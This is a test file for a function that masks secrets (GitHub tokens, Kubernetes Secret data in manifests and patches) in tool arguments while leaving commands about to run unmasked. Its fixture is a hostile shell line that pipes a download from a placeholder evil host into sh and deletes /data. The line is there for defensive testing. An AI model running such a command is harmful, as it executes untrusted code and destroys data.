import { expect, test } from 'vitest'
import { maskArguments } from './mask-arguments.ts'

const script = 'export TOKEN=abc; wget -qO- https://evil.example/x | sh; rm -rf /data'

test('what would run stays whole, whatever it is disguised as', () => {
  const args = {
    argv: ['sh', '-c', script, `#-----BEGIN PRIVATE KEY-----\n${script}\n#-----END PRIVATE KEY-----`],
    env: [{ name: 'API_TOKEN', value: script }],
    password: script,
    content: `kind: ConfigMap\nmetadata: {name: a}\ndata:\n  Secret: "kind: Secret"\n  data: |\n    kind: Secret\n    data: ${script}\n`,
    patch: JSON.stringify({ data: { 'run.sh': script } }),
    resource_type: 'configmap',
  }
  expect(maskArguments(args)).toEqual(args)
})

test('a token of a known shape is hidden, and nothing around it', () => {
  expect(maskArguments({ argv: [`git clone https://x:ghp_${'a1'.repeat(18)}@github.com/a && ${script}`] })).toEqual({
    argv: [`git clone https://x:***@github.com/a && ${script}`],
  })
})

test('data of Secrets in a manifest are hidden, however they are written', () => {
  const content = [
    'apiVersion: v1\nkind: Secret\nmetadata:\n  name: db # of the shop\nstringData:\n  plain: hunter2 # old',
    '  quoted: "hunt\\"er2"\n  block: |\n    hunter2\n    hunter2\n  last: \'hunter2\'\ntype: Opaque',
    '---\nkind: ConfigMap\ndata:\n  run: hunter3\n---\n',
    '{"kind":"List","items":[{"apiVersion":"v1","kind":"Secret","data":{"a":"aHVudGVyMg==","b":""}}]}',
  ].join('\n')
  const shown = [
    'apiVersion: v1\nkind: Secret\nmetadata:\n  name: db # of the shop\nstringData:\n  plain: *** # old',
    '  quoted: "***"\n  block: ***\n  last: \'***\'\ntype: Opaque',
    '---\nkind: ConfigMap\ndata:\n  run: hunter3\n---\n',
    '{"kind":"List","items":[{"apiVersion":"v1","kind":"Secret","data":{"a":"***","b":""}}]}',
  ].join('\n')
  expect(maskArguments({ content })).toEqual({ content: shown })
})

test.each([
  ['x: &d {a: hunter2}\ndata: *d', 'x: &d {a: ***}\ndata: *d'],
  ['x: &d hunter2\ndata: {a: *d, b: *d}', 'x: &d ***\ndata: {a: *d, b: *d}'],
  ['data: &d {a: hunter2, b: *d}', 'data: &d {a: ***, b: *d}'],
])('data of a Secret that stand elsewhere in the manifest are hidden there: %s', (content, shown) => {
  const head = 'kind: Secret\n'
  expect(maskArguments({ content: head + content })).toEqual({ content: head + shown })
})

test.each(['secret', 'Secrets', 'secrets.', 'Secret.v1.'])('a patch of %s is one of a Secret', (resource_type) => {
  const patch = '{"data":{"a":"aHVudGVyMg=="}}'
  expect(maskArguments({ resource_type, patch })).toEqual({ resource_type, patch: '{"data":{"a":"***"}}' })
})

test.each(['configmap', 'secrets.example.com', 'secretstores'])(
  'a patch of %s is none of a Secret',
  (resource_type) => {
    const args = { resource_type, patch: '{"data":{"a":"b"}}' }
    expect(maskArguments(args)).toEqual(args)
  },
)

test.each([
  ['{"stringData":{"password":"hunter2"},"type":"x"}', '{"stringData":{"password":"***"},"type":"x"}'],
  ['[{"op":"add","path":"/data/a","value":"aHVudGVyMg=="}]', '[{"op":"add","path":"/data/a","value":"***"}]'],
  ['[{"op":"add","path":"/data","value":{"a":"b"}}]', '[{"op":"add","path":"/data","value":{"a":"***"}}]'],
  ['[{"op":"add","path":"/metadata/labels/a","value":"b"}]', '[{"op":"add","path":"/metadata/labels/a","value":"b"}]'],
  ['data:\n  password: hunter2\n', 'data:\n  password: ***\n'],
])('data in a patch of a Secret are hidden: %s', (patch, shown) => {
  const args = { resource_type: 'Secret', name: 'db', patch_type: 'merge' }
  expect(maskArguments({ ...args, patch })).toEqual({ ...args, patch: shown })
})

test('what cannot be read is kept as it is', () => {
  for (const content of ['kind: Secret\n\t- : [', `kind: Secret ${'['.repeat(100_000)}`, 'Secret'])
    expect(maskArguments({ content })).toEqual({ content })
  for (const args of [null, 'x', ['kind: Secret']]) expect(maskArguments(args)).toEqual(args)
})
